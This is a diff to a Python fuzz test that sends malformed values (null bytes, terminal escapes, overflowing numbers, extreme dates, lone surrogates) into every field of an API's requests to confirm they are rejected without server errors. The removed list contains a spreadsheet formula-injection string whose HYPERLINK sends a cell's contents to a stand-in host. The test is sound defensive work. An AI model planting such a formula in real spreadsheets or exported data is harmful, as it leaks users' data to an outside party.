@@ -10,7 +10,7 @@ import os
 
 import pytest
 import schemathesis
-from hypothesis import HealthCheck, Phase, given, settings, strategies as st
+from hypothesis import HealthCheck, Phase, given, settings
 from schemathesis import GenerationMode
 from schemathesis.checks import not_a_server_error
 from schemathesis.specs.openapi.checks import (
@@ -66,32 +66,22 @@ def test_every_operation_keeps_its_contract(api_schema, deployment, route, mode)
 
 
 # Shapes that once answered 500 (issue 11.3): text no database stores, numbers beyond every
-# column and double, dates beyond the calendar, a formula; one of them replaces one value of
-# an otherwise valid request. Lone surrogates go in bodies only (a URL cannot carry them).
-HOSTILE_TEXT = ["a\x00b", "\x1b[2J", "ab\x7f\x08", "1E+999999999", "1e30", "-1E+999999999",
-                "9999-12-31T23:59:59-05:00", "0001-01-01", "NaN", "Infinity", "1.005",
-                '=HYPERLINK("http://x/"&A1,"x")']
-HOSTILE_BODY_VALUES = HOSTILE_TEXT + ["\ud800x", "x\udfff", 10**30, -(10**30), 1e308,
-                                      [[[[["deep"]]]]], {"a": {"b": {"c": None}}}]
+# column and double, dates beyond the calendar. Each replaces, one at a time, every path,
+# query and body value of a valid generated request. Lone surrogates go in bodies only (a
+# URL cannot carry them).
+HOSTILE_TEXT = ["a\x00b", "\x1b[2J", "1E+999999999", "9999-12-31T23:59:59-05:00"]
+HOSTILE_BODY_VALUES = HOSTILE_TEXT + ["\ud800x", 10**30, 1e308, "1.005", [[[[["deep"]]]]]]
 
 
-@st.composite
-def hostile_cases(draw, operation):
-    """A valid request of ``operation`` with one path, query or body value made hostile."""
-    case = draw(operation.as_strategy(generation_mode=GenerationMode.POSITIVE))
-    places = [("path", name) for name in (case.path_parameters or {})]
-    places += [("query", name) for name in (case.query or {})]
+def hostile_variants(case):
+    """(where, name, value) for every input value of ``case`` and every hostile shape."""
+    for name in case.path_parameters or {}:
+        yield from (("path_parameters", name, value) for value in HOSTILE_TEXT)
+    for name in case.query or {}:
+        yield from (("query", name, value) for value in HOSTILE_TEXT)
     if isinstance(case.body, dict):
-        places += [("body", name) for name in case.body]
-    if places:
-        where, name = draw(st.sampled_from(places))
-        if where == "path":
-            case.path_parameters[name] = draw(st.sampled_from(HOSTILE_TEXT))
-        elif where == "query":
-            case.query[name] = draw(st.sampled_from(HOSTILE_TEXT))
-        else:
-            case.body[name] = draw(st.sampled_from(HOSTILE_BODY_VALUES))
-    return case
+        for name in list(case.body):
+            yield from (("body", name, value) for value in HOSTILE_BODY_VALUES)
 
 
 INPUT_ROUTES = [pytest.param(route, id=f"{route.method} {route.openapi_path}")
@@ -103,15 +93,21 @@ def test_hostile_values_anywhere_are_documented_problems(api_schema, deployment,
     operation = api_schema[route.openapi_path][route.method]
     headers = {"Authorization": f"Bearer {deployment.tokens['admin']}"}
 
-    @given(case=hostile_cases(operation))
-    @settings(max_examples=EXAMPLES, deadline=None, database=None,
-              phases=[Phase.explicit, Phase.generate],
+    @given(case=operation.as_strategy(generation_mode=GenerationMode.POSITIVE))
+    @settings(max_examples=1, deadline=None, database=None, phases=[Phase.generate],
               suppress_health_check=list(HealthCheck))
     def keeps_contract(case):
-        if route.name == "register_webhook" and isinstance(case.body, dict) \
-                and isinstance(case.body.get("url"), str) and "url" in case.body:
-            case.body["url"] = deployment.hook_url
-        response = case.call(headers=headers, timeout=30)
-        case.validate_response(response, checks=CHECKS)
+        for where, name, value in hostile_variants(case):
+            inputs = getattr(case, where)
+            kept = inputs[name]
+            inputs[name] = value
+            if route.name == "register_webhook" and name != "url" and \
+                    isinstance(case.body, dict) and "url" in case.body:
+                case.body["url"] = deployment.hook_url  # deliveries stay on this machine
+            try:
+                response = case.call(headers=headers, timeout=30)
+                case.validate_response(response, checks=CHECKS)
+            finally:
+                inputs[name] = kept
 
     keeps_contract()
